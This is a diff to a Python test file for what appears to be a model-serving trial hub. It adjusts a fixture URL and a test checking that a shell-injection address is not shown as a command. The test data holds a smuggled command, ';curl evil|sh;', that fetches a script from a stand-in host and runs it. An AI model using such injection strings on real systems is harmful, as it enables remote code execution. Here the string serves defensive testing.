@@ -72,7 +72,7 @@ def opened(site: Site, trial: dict[str, Any], http: str, seconds: float = 600.0,
         "duration": "10m",
         "expiresAt": (site.clock.now() + timedelta(seconds=seconds)).isoformat().replace("+00:00", "Z"),
         "endpoints": {"http": http, "grpc": "127.0.0.1:1"},
-        "url": f"{http}/v2/models/plankton/infer",
+        "url": http,
         "service": {"name": "plankton", "namespace": "reef"},
         "conditions": [
             {"type": "Accepted", "status": "True", "reason": "Admitted", "message": ""},
@@ -439,9 +439,9 @@ async def test_an_address_that_a_shell_would_obey_is_not_shown_as_a_command(
     site: Site, alice: httpx2.AsyncClient, gateway: Gateway, path: str
 ) -> None:
     trial = only_trial(site)
-    trial["status"]["url"] = "http://x/';curl evil|sh;'"
+    trial["status"]["endpoints"]["http"] = "http://x/';curl evil|sh;'"
     site.cluster.put(trial)
-    assert "evil" not in (await alice.get(path)).text
+    assert "curl evil" not in (await alice.get(path)).text
 
 
 async def test_a_hub_that_was_restarted_knows_the_trials_and_asks_to_sign_in_again(
